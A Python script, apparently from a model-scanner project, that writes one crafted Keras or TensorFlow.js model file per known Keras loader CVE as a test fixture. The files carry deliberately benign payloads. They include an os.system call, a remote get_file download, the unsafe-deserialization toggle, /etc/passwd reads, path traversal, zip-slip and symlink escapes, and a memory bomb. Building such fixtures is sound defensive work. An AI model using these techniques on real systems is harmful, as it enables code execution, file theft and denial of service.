"""One file for each published hole of Keras's loaders, as an attacker would send it, with a harmless payload.

Tools: keras 3.15.1 and tf_keras 2.21 on tensorflow-cpu 2.21, h5py. Run from the repository root:

    python tools/reference/keras_known_holes.py

Writes packages/formats/fixtures/known-holes/. Keras itself saves the Lambda layers; the rest is a small honest model whose
config, weights or archive were changed. A `.json` beside a file's name is the same in the `model.json` of TensorFlow.js.
"""

import os

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
os.environ.setdefault("KERAS_BACKEND", "tensorflow")

import io
import json
import stat
import sys
import zipfile

import h5py
import keras
import numpy as np
import tf_keras
from fixture import ROOT

OUT = ROOT / "packages/formats/fixtures/known-holes"


def stack(k, *layers):
    return k.Sequential([k.Input((4,), name="rows"), *layers], name="stack")


def honest():
    """The parts of a `.keras` file of one Dense layer."""
    model = stack(keras, keras.layers.Dense(2, name="dense"))
    path = OUT / "honest.keras"
    model.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    path.unlink()
    return parts


def write(name, parts):
    with zipfile.ZipFile(OUT / f"{name}.keras", "w") as archive:
        for entry, content in parts.items():
            archive.writestr(zipfile.ZipInfo(entry), content)


def with_config(name, change):
    parts = honest()
    config = json.loads(parts["config.json"])
    change(config["config"]["layers"])
    write(name, parts | {"config.json": json.dumps(config)})


def with_weights(name, change):
    parts = honest()
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "a") as file:
        change(file["layers/dense/vars"])
    write(name, parts | {"model.weights.h5": buffer.getvalue()})


def layer(class_name, module="keras.layers", **config):
    return {"module": module, "class_name": class_name, "config": {"name": "trap", **config}, "registered_name": None}


def call(module, name, *args, **kwargs):
    """A function as a layer of a functional model: what it is called with stands where a layer names its inputs."""
    nodes = [{"args": list(args), "kwargs": kwargs}]
    reference = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return reference | {"name": name, "inbound_nodes": nodes}


def functional(*layers):
    """The config of a functional model that gives its input back, with layers beside that lead nowhere."""
    rows = {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "rows"}
    first = layer("InputLayer", **rows) | {"name": "rows", "inbound_nodes": []}
    ends = {"input_layers": [["rows", 0, 0]], "output_layers": [["rows", 0, 0]]}
    config = {"name": "functional", "trainable": True, "layers": [first, *layers], **ends}
    module = "keras.src.models.functional"
    return {"module": module, "class_name": "Functional", "config": config, "registered_name": "Functional"}


def write_config(name, config):
    write(name, honest() | {"config.json": json.dumps(config)})


def write_layers_model(name, topology, paths=()):
    """A `model.json` of TensorFlow.js, without weights."""
    manifest = [{"paths": list(paths), "weights": []}]
    model = {"format": "layers-model", "modelTopology": topology, "weightsManifest": manifest}
    (OUT / f"{name}.model.json").write_text(json.dumps(model))


def keras2(*layers):
    """The topology that the converter of TensorFlow.js takes over from Keras 2."""
    rows = {"class_name": "InputLayer", "config": {"name": "rows", "batch_input_shape": [None, 4]}}
    config = {"class_name": "Sequential", "config": {"name": "stack", "layers": [rows, *layers]}}
    return {"keras_version": tf_keras.__version__, "backend": "tensorflow", "model_config": config}


if __name__ == "__main__":
    OUT.mkdir(parents=True, exist_ok=True)
    # Compiled by itself, so that the bytecode in the files does not name a folder of this machine.
    increment = eval(compile("lambda x: x + 1", "trap", "eval"))

    # Python code in a Lambda layer: Keras 2 `.h5`, Keras 3 `.h5` and `.keras`, and the JSON of one.
    stack(tf_keras, tf_keras.layers.Lambda(increment, name="trap")).save(OUT / "cve-2024-3660.h5")
    lambda_model = stack(keras, keras.layers.Lambda(increment, output_shape=(4,), name="trap"))
    lambda_model.save(OUT / "cve-2025-9905.h5")
    (OUT / "cve-2026-12481.json").write_text(lambda_model.to_json())

    # The same where another layer is around it, or another model.
    lambda_layer = keras.layers.Lambda(increment, output_shape=(4,), name="trap")
    steps = keras.layers.TimeDistributed(lambda_layer, name="steps")
    keras.Sequential([keras.Input((2, 4), name="rows"), steps], name="stack").save(OUT / "lambda-in-a-wrapper.keras")
    inner = keras.Sequential([keras.Input((4,)), lambda_layer], name="inner")
    stack(keras, inner).save(OUT / "lambda-in-a-model.keras")

    # A config that calls any function of any module, functions of Keras that help, and what they make possible.
    write_config("cve-2025-1550", functional(call("os", "system", "echo a command of the file")))
    download = call("keras.utils", "get_file", "module.py", "https://example.com/module.py", cache_dir=".", force_download=True)
    write_config("cve-2025-8747", functional(download))
    unsafe = call("keras.config", "enable_unsafe_deserialization")
    trap = json.loads(lambda_model.to_json())["config"]["layers"][1]
    write_config("cve-2025-9906", functional(unsafe, trap | {"name": "trap", "inbound_nodes": [{"args": [], "kwargs": {}}]}))

    # Files and addresses in a config.
    lookup = layer("StringLookup", vocabulary="/etc/passwd", max_tokens=None, num_oov_indices=1)
    with_config("cve-2025-12058", lambda layers: layers.insert(1, lookup))
    saved_model = layer("TFSMLayer", filepath="/tmp/attacker/saved_model", call_endpoint="serve")
    with_config("cve-2026-1462", lambda layers: layers.insert(1, saved_model))
    with_config("cve-2026-12479", lambda layers: layers[1]["config"].update(name="../../../../tmp/escape"))

    # Archives that unpack beside where they should: by a name; through a link, behind a path too long for it to be looked at.
    def entry(name, content=b"", mode=stat.S_IFREG | 0o644):
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, mode << 16
        return info, content

    def with_entries(name, *entries):
        with zipfile.ZipFile(OUT / f"{name}.keras", "w") as archive:
            for info, content in entries:
                archive.writestr(info, content)

    parts = {name: entry(name, content) for name, content in honest().items()}
    with_entries("cve-2025-12060", *parts.values(), entry("../../escape", b"text"))
    link = entry("model.weights.h5", b"/etc/passwd", stat.S_IFLNK | 0o777)
    deep = "/".join(["d" * 247] * 16)
    aside = entry(f"{deep}/aside", b"/etc", stat.S_IFLNK | 0o777)
    with_entries("cve-2025-12638", *(parts | {"model.weights.h5": link}).values(), aside, entry(f"{deep}/aside/escape", b"text"))

    # Weights that declare more than any memory holds, and weights that lie in another file.
    def outside(variables):
        del variables["0"]
        variables.create_dataset("0", shape=(4, 2), dtype="f4", external=[("/etc/passwd", 0, 32)])

    wide = honest()
    config = json.loads(wide["config.json"])
    rows, dense = (each["config"] for each in config["config"]["layers"])
    rows["batch_shape"], dense["units"], dense["use_bias"] = [None, 1 << 30], 1 << 10, False
    config["build_config"] = {"input_shape": rows["batch_shape"]}
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        variables = file.create_group("layers/dense/vars")
        variables.attrs["name"] = "dense"
        kernel = variables.create_dataset("0", shape=(1 << 30, 1 << 10), dtype="f4", chunks=(1 << 10, 1 << 10), compression="gzip")
        kernel[0, 0] = 0
    write("cve-2026-0897", wide | {"config.json": json.dumps(config), "model.weights.h5": buffer.getvalue()})
    with_weights("cve-2026-1669", outside)

    # Those that a model of TensorFlow.js could have.
    old = json.loads(stack(tf_keras, tf_keras.layers.Lambda(increment, name="trap")).to_json())
    write_layers_model("cve-2024-3660", {"keras_version": tf_keras.__version__, "model_config": old})
    write_layers_model("cve-2025-1550", functional(call("os", "system", "echo a command of the file")))
    custom = {"class_name": "MyLayer", "module": "my_package.layers", "registered_name": "My>MyLayer", "config": {"name": "own"}}
    write_layers_model("custom-class", keras2(custom))
    dense = {"class_name": "Dense", "config": {"name": "../../../../tmp/escape", "units": 2}}
    write_layers_model("cve-2026-12479", keras2(dense))
    write_layers_model("cve-2025-12060", keras2(), paths=["../../../../etc/passwd"])
    print(f"keras {keras.__version__}, tf_keras {tf_keras.__version__}, h5py {h5py.__version__}, numpy {np.__version__}", file=sys.stderr)
